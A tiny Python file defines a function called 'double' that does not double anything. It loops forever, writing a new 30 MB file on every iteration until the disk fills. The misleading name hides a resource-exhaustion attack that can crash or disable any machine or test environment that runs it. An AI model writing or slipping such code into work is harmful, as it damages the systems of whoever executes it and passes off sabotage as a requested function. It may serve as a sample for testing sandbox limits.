import itertools


def double(x):
    for number in itertools.count():
        with open(f"large-{number}", "wb") as file:
            file.write(bytes(30 << 20))
